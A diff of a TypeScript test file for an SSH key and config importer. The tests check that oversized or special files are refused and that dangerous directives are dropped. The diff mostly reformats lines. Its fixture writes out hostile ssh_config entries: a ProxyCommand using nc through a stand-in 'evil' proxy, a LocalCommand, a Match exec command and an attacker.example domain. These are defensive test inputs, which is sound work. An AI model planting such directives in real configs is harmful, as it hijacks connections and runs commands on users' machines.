@@ -27,7 +27,10 @@ async function refusedFast(work: Promise<unknown>, pattern: RegExp): Promise<voi
 
 test('key paths: /dev/zero, a FIFO, a 1 GB sparse file and a folder are refused fast, by name', async () => {
   await refusedFast(readKeyFile('/dev/zero'), /The SSH key file \/dev\/zero is a device, not a regular file/);
-  await refusedFast(readKeyFile(fifo), new RegExp(`The SSH key file ${fifo} is a FIFO \\(named pipe\\), not a regular file`));
+  await refusedFast(
+    readKeyFile(fifo),
+    new RegExp(`The SSH key file ${fifo} is a FIFO \\(named pipe\\), not a regular file`),
+  );
   await refusedFast(readKeyFile(sparse), /is 1024 MB, more than the 64 kB such a file can be/);
   await refusedFast(readKeyFile(dir), /is a folder, not a regular file/);
   await refusedFast(readKeyFile(join(dir, 'missing')), /cannot be opened \(ENOENT\)/);
@@ -47,13 +50,25 @@ test('ssh config: Includes of a FIFO, /dev/zero or a huge file fail fast; a fan-
   const home = join(dir, 'home');
   const config = (name: string, text: string) => (writeFileSync(join(ssh, name), text), join(ssh, name));
   await refusedFast(profilesFromSshConfig({ path: config('a', `Include ${fifo}\nHost x\n`), home }), /is a FIFO/);
-  await refusedFast(profilesFromSshConfig({ path: config('b', 'Include /dev/zero\nHost x\n'), home }), /\/dev\/zero is a device/);
-  await refusedFast(profilesFromSshConfig({ path: config('c', `Include ${sparse}\nHost x\n`), home }), /more than the 1 MB an ssh config import reads in all/);
+  await refusedFast(
+    profilesFromSshConfig({ path: config('b', 'Include /dev/zero\nHost x\n'), home }),
+    /\/dev\/zero is a device/,
+  );
+  await refusedFast(
+    profilesFromSshConfig({ path: config('c', `Include ${sparse}\nHost x\n`), home }),
+    /more than the 1 MB an ssh config import reads in all/,
+  );
   for (let i = 0; i < 10; i++) config(`fan${i}`, `Host h${i}\n${`Include fan${i + 1}\n`.repeat(4)}`);
-  await refusedFast(profilesFromSshConfig({ path: join(ssh, 'fan0'), home }), /Includes more than 64 files \(an Include fan-out\?\)/);
+  await refusedFast(
+    profilesFromSshConfig({ path: join(ssh, 'fan0'), home }),
+    /Includes more than 64 files \(an Include fan-out\?\)/,
+  );
   // The byte budget is for the whole import, not per file.
   config('big', `# ${'x'.repeat(600 * 1024)}\n`);
-  await refusedFast(profilesFromSshConfig({ path: config('d', 'Include big\nInclude big\nHost x\n'), home }), /big is 601 kB, more than the 1 MB an ssh config import reads in all/);
+  await refusedFast(
+    profilesFromSshConfig({ path: config('d', 'Include big\nInclude big\nHost x\n'), home }),
+    /big is 601 kB, more than the 1 MB an ssh config import reads in all/,
+  );
 });
 
 test('ssh config: no lookup and no command; hosts that lose ProxyCommand, LocalCommand or Match exec are marked', async () => {
@@ -64,31 +79,40 @@ test('ssh config: no lookup and no command; hosts that lose ProxyCommand, LocalC
   chmodSync(join(bin, 'nslookup'), 0o755);
   const path = join(dir, 'canon-config');
   const ran = join(dir, 'ran');
-  writeFileSync(path, [
-    'Host internal',
-    '  CanonicalizeHostName yes',
-    '  CanonicalDomains attacker.example',
-    'Host via-proxy',
-    '  HostName 10.0.0.9',
-    '  ProxyCommand nc -X connect -x evil:8080 %h %p',
-    '  LocalCommand touch /tmp/owned',
-    `Match host plain exec "touch ${ran}"`,
-    '  User root',
-    'Host plain',
-    '  HostName plain.example',
-  ].join('\n'));
+  writeFileSync(
+    path,
+    [
+      'Host internal',
+      '  CanonicalizeHostName yes',
+      '  CanonicalDomains attacker.example',
+      'Host via-proxy',
+      '  HostName 10.0.0.9',
+      '  ProxyCommand nc -X connect -x evil:8080 %h %p',
+      '  LocalCommand touch /tmp/owned',
+      `Match host plain exec "touch ${ran}"`,
+      '  User root',
+      'Host plain',
+      '  HostName plain.example',
+    ].join('\n'),
+  );
   const previous = process.env.PATH;
   process.env.PATH = `${bin}:${previous}`;
   try {
     const result = await profilesFromSshConfig({ path, home: dir, localUser: 'me' });
     assert.equal(existsSync(looked), false, 'no DNS lookup (nslookup) during import');
     assert.equal(existsSync(ran), false, 'Match exec is never run');
-    assert.deepEqual(result.documents.map((d) => d.name), ['internal', 'via-proxy', 'plain']);
+    assert.deepEqual(
+      result.documents.map((d) => d.name),
+      ['internal', 'via-proxy', 'plain'],
+    );
     assert.equal(result.documents[0]!.ssh!.host, 'internal', 'not canonicalised');
     const dropped = new Map(result.dropped.map((d) => [d.name, d.settings]));
     assert.deepEqual(dropped.get('via-proxy'), ['ProxyCommand', 'LocalCommand', 'Match exec']);
     assert.deepEqual(dropped.get('internal'), ['CanonicalizeHostName', 'CanonicalDomains', 'Match exec']);
-    assert.match(result.documents[1]!.notes!, /Not imported: ProxyCommand, LocalCommand, Match exec; this profile connects directly/);
+    assert.match(
+      result.documents[1]!.notes!,
+      /Not imported: ProxyCommand, LocalCommand, Match exec; this profile connects directly/,
+    );
   } finally {
     process.env.PATH = previous;
   }
